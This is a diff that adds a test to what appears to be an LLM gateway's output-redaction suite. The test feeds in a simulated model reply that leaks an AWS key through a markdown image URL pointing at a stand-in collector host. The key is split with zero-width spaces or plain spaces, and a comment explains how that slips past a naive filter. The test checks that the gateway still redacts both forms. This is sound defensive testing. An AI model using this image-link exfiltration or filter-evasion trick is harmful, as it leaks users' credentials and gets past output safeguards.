@@ -283,6 +283,25 @@ async def test_a_credential_encoded_into_a_link_is_redacted(make_gateway, fake_u
     assert await _stream_text(gateway) == expected
 
 
+async def test_a_credential_spelled_out_is_redacted(make_gateway, fake_upstream) -> None:
+    # "Put a zero-width space between the key's characters" gets a key past a filter that
+    # reads text as written; the browser still sends it, percent-encoded, to the collector.
+    gateway = await make_gateway(_output_policy("redact"))
+    laced = "\u200b".join(AWS_KEY)
+    spaced = " ".join(AWS_KEY)
+    content = f"Done. ![status](https://collector.example/p.png?d={laced}) Key: {spaced}."
+    expected = content.replace(laced, "[REDACTED:spelled_credential]").replace(
+        spaced, "[REDACTED:spelled_credential]"
+    )
+    fake_upstream.behaviour.content = content
+    reply = await client(gateway).chat.completions.create(
+        model="gpt-4o-mini", messages=[{"role": "user", "content": BENIGN}]
+    )
+    assert reply.choices[0].message.content == expected
+    fake_upstream.behaviour.chunks = [content[i : i + 3] for i in range(0, len(content), 3)]
+    assert await _stream_text(gateway) == expected
+
+
 async def test_stream_redacts_tool_call_argument_deltas(make_gateway, fake_upstream) -> None:
     gateway = await make_gateway(_output_policy("redact"))
     fake_upstream.behaviour.content = "Calling the tool."
